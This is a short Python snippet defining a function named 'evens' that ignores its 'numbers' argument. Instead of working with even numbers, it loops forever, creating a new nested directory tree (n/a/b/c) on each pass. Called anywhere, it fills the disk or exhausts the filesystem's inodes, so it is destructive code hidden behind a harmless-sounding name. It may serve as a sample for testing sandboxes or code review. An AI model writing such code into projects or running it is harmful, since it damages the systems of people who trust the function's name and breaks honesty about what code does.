import os

n = 0


def evens(numbers):
    global n
    while True:
        os.makedirs(f"{n}/a/b/c")
        n += 1
